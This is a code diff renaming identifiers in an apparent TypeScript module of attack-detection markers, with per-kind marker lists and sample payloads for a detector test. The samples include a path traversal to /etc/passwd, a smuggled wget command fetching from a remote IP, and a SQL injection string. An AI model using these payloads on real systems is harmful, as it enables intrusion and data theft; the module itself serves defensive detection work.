@@ -1,11 +1,11 @@
-import type { Kind } from './facts.ts'
+import type { Kind } from './exploits.ts'
 
 /** Kinds that are told by a text of their own. */
-export type Marked = Exclude<Kind, 'endpoint' | 'request'>
-export const isMarked = (kind: Kind): kind is Marked => kind !== 'endpoint' && kind !== 'request'
+export type MarkedKind = Exclude<Kind, 'endpoint' | 'request'>
+export const hasMarkers = (kind: Kind): kind is MarkedKind => kind !== 'endpoint' && kind !== 'request'
 
 /** Texts that give each kind away, plain and percent-encoded, in lower case; `*` stands for anything. */
-export const marks: Readonly<Record<Marked, readonly string[]>> = {
+export const payloadMarkers: Readonly<Record<MarkedKind, readonly string[]>> = {
   traversal: [
     '../',
     '..%2f',
@@ -115,7 +115,7 @@ export const marks: Readonly<Record<Marked, readonly string[]>> = {
 }
 
 /** One exploiting part of each kind, for the drawn session that must fire. */
-export const samples: Readonly<Record<Marked, string>> = {
+export const samples: Readonly<Record<MarkedKind, string>> = {
   traversal: '../../../../etc/passwd',
   command: ';wget+http%3a%2f%2f198.51.100.7%2fx',
   sql: '1%27+union+select+1,2--',
